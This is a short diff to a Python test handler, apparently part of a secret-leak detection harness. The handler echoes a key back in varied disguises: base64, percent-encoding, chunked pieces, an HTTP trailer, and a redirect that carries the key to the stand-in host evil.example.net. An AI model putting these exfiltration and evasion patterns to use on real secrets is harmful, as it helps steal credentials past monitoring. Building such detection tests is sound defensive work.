@@ -74,7 +74,7 @@ def reflect(h, how):
     if how == "location": return h.reply(b"", 302, headers=[("Location", "https://evil.example.net/?key=" + s)])
     if how == "base64": return h.reply(b"\n".join(base64.b64encode(b"x" * n + b + b"y" * n) for n in range(3)) + b"\n")
     if how == "url64": return h.reply(b"\n".join(base64.urlsafe_b64encode(b"\xff" * n + b + b"\xfe" * n) for n in range(3)) + b"\n")
-    if how == "percent": return h.reply(urllib.parse.quote("<" + s + ">", safe="").encode() + b"\n" + b"".join(b"%%%02X" % c for c in b) + b"\n")
+    if how == "percent": return h.reply(urllib.parse.quote("<" + s + ">", safe="").encode() + b"\n")
     if how == "chunks": return chunks(h, [text[n:n + 1] for n in range(len(text))])
     if how == "halves": at = text.index(b) + len(b) // 2; return chunks(h, [text[:at], text[at:]], pause=0.2)
     if how == "trailer": return chunks(h, [b"ok\n"], [("Trailer", "X-Your-Key")], [("X-Your-Key", s)])
